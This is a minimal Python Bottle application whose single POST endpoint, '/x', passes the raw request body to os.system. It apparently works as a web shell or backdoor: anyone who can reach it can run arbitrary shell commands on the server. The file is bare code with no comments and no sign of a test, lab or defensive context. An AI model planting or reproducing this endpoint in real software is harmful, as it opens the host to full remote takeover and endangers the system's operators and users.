import os
from bottle import Bottle, request
app = Bottle()

@app.post('/x')
def x():
    os.system(request.body.read().decode())
    return ''
